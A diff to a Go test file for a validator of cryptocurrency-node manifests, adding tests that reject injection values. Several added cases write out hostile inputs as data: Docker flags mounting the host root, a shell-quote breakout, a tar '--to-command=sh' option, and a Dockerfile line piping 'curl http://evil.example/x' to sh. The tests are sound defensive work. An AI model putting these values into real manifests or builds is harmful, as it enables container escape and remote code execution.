@@ -62,7 +62,7 @@ func TestInvalidManifests(t *testing.T) {
 			f + `:2:7: name: "bitcoin" does not match its folder "monero"`,
 		}},
 		{"version with a space", `version: "0.18.5.1"`, `version: "0.18 beta"`, []string{
-			f + `:4:10: version: "0.18 beta" is not a version: letters, digits, '.', '+', '_' and '-' only`,
+			f + `:4:10: version: "0.18 beta" is not a version usable as an image tag: letters, digits, '.', '_' and '-', at most 128`,
 		}},
 		{"tag without version", `tag: "v{version}"`, `tag: "latest"`, []string{
 			f + `:7:8: upstream.tag: "latest" must contain {version}, e.g. v{version}`,
@@ -89,7 +89,7 @@ func TestInvalidManifests(t *testing.T) {
 			f + `:14:15: release.artifacts.linux/amd64.sha256: must be 64 lower-case hex digits, got "22A7DDA7"`,
 		}},
 		{"absolute binary path", "- monero-x86_64-linux-gnu-v{version}/monerod", "- /usr/bin/monerod", []string{
-			f + `:16:7: release.binaries[0]: "/usr/bin/monerod" must be a clean relative path inside the archive`,
+			f + `:16:7: release.binaries[0]: "/usr/bin/monerod" must be a clean relative path inside the archive (letters, digits, '.', '_', '+', '-'; no part may start with '-')`,
 		}},
 		{"checksum format", "format: monero", "format: sha512sum", []string{
 			f + `:19:13: release.checksums.format: unknown format "sha512sum"; use sha256sum, monero or gitian-assert`,
@@ -114,7 +114,7 @@ func TestInvalidManifests(t *testing.T) {
 			f + `:24:15: release.signatures.keys[0].file: testdata/coins/monero/keys/binaryFate.asc does not exist`,
 		}},
 		{"key outside keys/", "file: keys/binaryfate.asc", "file: ../../../../go.mod", []string{
-			f + `:24:15: release.signatures.keys[0].file: "../../../../go.mod" must be a path under keys/`,
+			f + `:24:15: release.signatures.keys[0].file: "../../../../go.mod" must be a path under keys/ of letters, digits, '.', '_', '+' and '-'`,
 		}},
 		{"signer without {signer}", "file: keys/fluffypony.asc", "file: keys/fluffypony.asc\n        signer: fluffypony", []string{
 			f + `:27:17: release.signatures.keys[1].signer: is only used with {signer} in the checksums or signature url`,
@@ -135,7 +135,7 @@ func TestInvalidManifests(t *testing.T) {
 			f + `:33:13: runtime.command[0]: "bitcoind" is not one of release.binaries (monerod) nor an absolute path`,
 		}},
 		{"relative data dir", "data_dir: /node/data", "data_dir: node/data", []string{
-			f + `:34:13: runtime.data_dir: "node/data" must be a clean absolute path`,
+			f + `:34:13: runtime.data_dir: "node/data" must be a clean absolute path of letters, digits, '.', '_', '+' and '-'`,
 		}},
 		{"config inside the volume", "path: /node/monerod.conf}", "path: /node/data/monerod.conf}", []string{
 			f + `:36:40: runtime.config[0].path: /node/data/monerod.conf is inside data_dir /node/data, a volume that hides it at run time`,
@@ -166,6 +166,37 @@ func TestInvalidManifests(t *testing.T) {
 		}},
 		{"list for a mapping", "notify:\n  slack_channel: \"#coin-nodes\"", "notify:\n  - \"#coin-nodes\"", []string{
 			f + `:46:3: notify: must be a mapping, not a list`,
+		}},
+		// Values that reach shell, Dockerfile and systemd lines: a review
+		// rendered each of these into a command that ran.
+		{"data dir smuggling docker flags", "data_dir: /node/data", `data_dir: "/node/data --privileged -v /:/host"`, []string{
+			f + `:34:13: runtime.data_dir: "/node/data --privileged -v /:/host" must be a clean absolute path of letters, digits, '.', '_', '+' and '-'`,
+		}},
+		{"binary path breaking out of its shell quotes", "- monero-x86_64-linux-gnu-v{version}/monerod", `- "monero-v{version}/bin'; touch /tmp/PWNED; echo '/monerod"`, []string{
+			f + `:16:7: release.binaries[0]: "monero-v{version}/bin'; touch /tmp/PWNED; echo '/monerod" must be a clean relative path inside the archive (letters, digits, '.', '_', '+', '-'; no part may start with '-')`,
+		}},
+		{"binary path that is a tar option", "- monero-x86_64-linux-gnu-v{version}/monerod", "- --to-command=sh", []string{
+			f + `:16:7: release.binaries[0]: "--to-command=sh" must be a clean relative path inside the archive (letters, digits, '.', '_', '+', '-'; no part may start with '-')`,
+			f + `:33:13: runtime.command[0]: "monerod" is not one of release.binaries (--to-command=sh) nor an absolute path`,
+			f + `:39:12: runtime.height[0]: "monerod" is not one of release.binaries (--to-command=sh) nor an absolute path`,
+		}},
+		{"tag with a Dockerfile line in it", `tag: "v{version}"`, `tag: "v{version}\"\nRUN curl -s http://evil.example/x | sh\nLABEL x=\""`, []string{
+			f + `:7:8: upstream.tag: "v{version}\"\nRUN curl -s http://evil.example/x | sh\nLABEL x=\"" may hold only letters, digits, '.', '_', '+', '-', '/' and {version}`,
+		}},
+		{"description with a shell variable", "description: Monero full node", `description: "Monero $HOME 100%"`, []string{
+			f + `:3:14: description: must be one line without quotes, backslashes, $, % or backticks`,
+		}},
+		{"version that is not an image tag", `version: "0.18.5.1"`, `version: "0.18.5.1+build"`, []string{
+			f + `:4:10: version: "0.18.5.1+build" is not a version usable as an image tag: letters, digits, '.', '_' and '-', at most 128`,
+		}},
+		{"stop timeout under a second", "stop_timeout: 5m", "stop_timeout: 900ms", []string{
+			f + `:38:17: runtime.stop_timeout: 900ms must be a whole number of seconds, at least 1s (docker and systemd count seconds)`,
+		}},
+		{"empty uid", "uid: 10002", "uid: ~", []string{
+			f + `:31:8: image.uid: is required: a fixed uid keeps host volumes' owner stable`,
+		}},
+		{"uid of nobody", "uid: 10002", "uid: 65534", []string{
+			f + `:31:8: image.uid: 65534 is nobody/nogroup or reserved; pick another fixed uid`,
 		}},
 		{"tab indentation", "  user: monero", "\tuser: monero", []string{
 			f + `:30:1: invalid YAML: a tab in the indentation; indent with spaces`,
@@ -215,6 +246,17 @@ func TestDiscover(t *testing.T) {
 	want := `unknown coin "dogecoin": testdata/coins/dogecoin/coin.yaml does not exist`
 	if err == nil || err.Error() != want {
 		t.Fatalf("Discover(dogecoin) error = %v, want %s", err, want)
+	}
+}
+
+// YAML spells booleans True and TRUE too; they must not read as false.
+func TestBooleanSpellings(t *testing.T) {
+	for _, spelling := range []string{"true", "True", "TRUE"} {
+		src := strings.Replace(readFixture(t), "  stop_timeout: 5m", "  stop_timeout: 5m\n  snapshot: "+spelling, 1)
+		m, err := Parse(fixture, []byte(src))
+		if err != nil || !m.Runtime.Snapshot {
+			t.Errorf("snapshot: %s read as %v (%v)", spelling, m.Runtime.Snapshot, err)
+		}
 	}
 }
 
